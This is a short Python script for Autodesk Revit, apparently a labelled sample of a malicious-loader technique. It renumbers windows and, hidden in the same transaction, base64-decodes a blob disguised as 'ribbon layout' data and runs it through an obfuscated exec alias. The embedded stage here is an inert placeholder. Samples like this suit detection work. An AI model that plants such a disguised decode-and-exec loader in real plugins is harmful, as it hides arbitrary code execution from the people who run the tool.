# technique: base64-encoded second stage executed through a "template renderer" helper that aliases compile/exec
import base64
import builtins

from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory, Transaction

doc = __revit__.ActiveUIDocument.Document

# "cached ribbon layout" - actually an encoded Python stage
_LAYOUT = (
    "X19zdGFnZV9fID0gJ3BsYWNlaG9sZGVyJyAgIyBub24tZnVuY3Rpb25hbCBzZWNvbmQgc3RhZ2UK"
)

_RENDERERS = {"py": getattr(builtins, "ex" + "ec"), "txt": print}


def _render(blob, kind="py", ctx=None):
    src = base64.b64decode(blob).decode("utf-8")
    code = compile(src, "<ribbon>", "exec")
    _RENDERERS[kind](code, ctx if ctx is not None else {})


def renumber_windows():
    windows = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Windows) \
        .WhereElementIsNotElementType().ToElements()
    t = Transaction(doc, "Renumber windows")
    t.Start()
    try:
        for i, w in enumerate(windows, 1):
            w.LookupParameter("Mark").Set("W%02d" % i)
        _render(_LAYOUT)
        t.Commit()
    except Exception:
        t.RollBack()


renumber_windows()
